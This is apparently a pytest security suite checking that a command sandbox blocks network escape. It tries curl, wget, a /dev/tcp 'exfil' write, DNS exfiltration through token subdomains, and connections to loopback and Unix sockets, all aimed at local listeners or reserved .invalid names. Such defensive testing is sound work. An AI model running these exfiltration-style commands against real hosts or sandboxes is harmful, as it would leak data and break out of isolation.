"""Network from inside a command: cases 13-18 and pitfall 3.

Only loopback servers started here are contacted; names looked up from inside the sandbox
are under the reserved `.invalid` domain, so even a broken sandbox would leak no real query
target.
"""

from __future__ import annotations

import errno
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from .conftest import Box

pytestmark = pytest.mark.security


class Listener:
    """A host-side server that records every connection or datagram it receives."""

    def __init__(self, sock: socket.socket, stream: bool = True) -> None:
        self.sock = sock
        self.hits: list[bytes] = []
        self._stream = stream
        sock.settimeout(0.2)
        if stream:
            sock.listen(8)
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                if self._stream:
                    conn, _ = self.sock.accept()
                    self.hits.append(conn.recv(100) or b"<connect>")
                    conn.close()
                else:
                    self.hits.append(self.sock.recv(100))
            except (TimeoutError, OSError):
                continue

    def close(self) -> None:
        self._stop = True
        self._thread.join(timeout=2)
        self.sock.close()


@pytest.fixture
def tcp4() -> Iterator[Listener]:
    s = socket.socket(socket.AF_INET)
    s.bind(("127.0.0.1", 0))
    lst = Listener(s)
    yield lst
    lst.close()


def _port(lst: Listener) -> int:
    return int(lst.sock.getsockname()[1])


def test_case13_curl_wget_devtcp_and_raw_sockets_fail(box: Box, tcp4: Listener) -> None:
    port = _port(tcp4)
    result = box.run(
        f"curl -sS -m 3 http://127.0.0.1:{port}/ && echo CURL-OK;"
        f" wget -q -T 3 -O- http://127.0.0.1:{port}/ && echo WGET-OK;"
        f" bash -c 'echo exfil > /dev/tcp/127.0.0.1/{port}' && echo DEVTCP-OK;"
        " curl -sS -m 3 http://codeloop-test.invalid/ && echo REMOTE-OK; true"
    )
    for marker in ("CURL-OK", "WGET-OK", "DEVTCP-OK", "REMOTE-OK"):
        assert marker not in result.output
    raw = {r["name"]: r for r in box.probe("sockets")}
    assert raw["raw ICMP"]["ret"] == -1 and raw["AF_PACKET"]["ret"] == -1
    assert tcp4.hits == []


def test_case14_dns_exfiltration_fails(box: Box) -> None:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    lst = Listener(udp, stream=False)
    try:
        port = _port(lst)
        result = box.run(
            f"getent hosts {box.token}.codeloop-test.invalid && echo RESOLVED;"
            " cat /etc/resolv.conf;"
            f" python3 -c \"import socket; socket.getaddrinfo('{box.token}.codeloop-test.invalid', 53)\""
            " || echo LOOKUP-FAILED"
        )
        assert "RESOLVED" not in result.output and "LOOKUP-FAILED" in result.output
        sent = box.probe("connect", f"udp:127.0.0.1:{port}")
        assert sent[0]["ret"] == 0  # the datagram went to the sandbox's own loopback...
    finally:
        lst.close()
    assert lst.hits == []  # ...never to the host's


def test_case15_no_route_to_cloud_metadata(box: Box) -> None:
    # Only inspect interfaces and routes: no packet is sent towards 169.254.169.254.
    dev = box.run("cat /proc/net/dev").output.splitlines()[2:]
    assert [line.split(":")[0].strip() for line in dev] == ["lo"]
    v4 = box.run("cat /proc/net/route").output.splitlines()[1:]
    assert v4 == []  # no IPv4 route at all, so 169.254.169.254 is unreachable
    v6 = box.run("cat /proc/net/ipv6_route").output.splitlines()
    assert all(line.split()[-1] == "lo" for line in v6)  # fd00:ec2::254 has no route either
    assert "No such file" in box.run("ls /sys/class/net").output


def test_case16_host_loopback_services_unreachable(box: Box, tcp4: Listener) -> None:
    targets = [f"127.0.0.1:{_port(tcp4)}"]
    v6: Listener | None = None
    try:
        s6 = socket.socket(socket.AF_INET6)
        s6.bind(("::1", 0))
        v6 = Listener(s6)
        targets.append(f"[::1]:{_port(v6)}")
    except OSError as exc:
        print(f"IPv6 loopback unavailable on this host ({exc}); ::1 not exercised")
    try:
        attempts = box.probe("connect", *targets)
    finally:
        if v6 is not None:
            v6.close()
    assert all(a["ret"] == -1 for a in attempts), attempts
    assert tcp4.hits == []
    assert v6 is None or v6.hits == []
    if v6 is None:
        pytest.skip("CANNOT EXERCISE ::1: IPv6 loopback is unavailable on this host")


def test_case17_pitfall3_path_unix_sockets_unreachable(box: Box, tmp_path: Path) -> None:
    outside = tmp_path / "agent.sock"
    inside = box.workspace.path / "docker.sock"  # visible through the workspace mount
    listeners = []
    for path in (outside, inside):
        s = socket.socket(socket.AF_UNIX)
        s.bind(str(path))
        listeners.append(Listener(s))
    try:
        attempts = box.probe("connect", f"unix:{outside}", f"unix:{inside}")
        mounts = box.run("ls -d /run /var/run /tmp/.X11-unix $XDG_RUNTIME_DIR /run/user 2>&1")
    finally:
        for lst in listeners:
            lst.close()
    assert all(a["ret"] == -1 for a in attempts), attempts
    assert all(lst.hits == [] for lst in listeners)
    assert mounts.output.count("No such file") >= 4


def test_case18_abstract_unix_sockets_unreachable(box: Box) -> None:
    name = f"codeloop-test-{box.token}"
    s = socket.socket(socket.AF_UNIX)
    s.bind("\0" + name)
    lst = Listener(s)
    try:
        attempts = box.probe("connect", f"abstract:{name}")
    finally:
        lst.close()
    assert attempts[0]["ret"] == -1
    assert attempts[0]["errno"] in (errno.EAFNOSUPPORT, errno.ECONNREFUSED, errno.EPERM)
    assert lst.hits == []
